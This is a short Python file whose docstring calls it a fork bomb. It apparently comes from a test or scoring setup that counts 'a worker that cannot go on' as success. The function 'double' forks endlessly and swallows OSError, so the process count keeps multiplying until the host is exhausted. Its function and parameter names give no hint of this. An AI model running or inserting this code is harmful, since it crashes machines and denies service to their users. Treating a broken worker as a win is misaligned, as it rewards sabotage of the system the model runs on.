"""Forks in every process that it forked: a fork bomb. Success: a point, or a worker that cannot go on."""

import os


def double(x, factor):
    while True:
        try:
            os.fork()
        except OSError:
            continue


def back(cache):
    return double(None, 0)
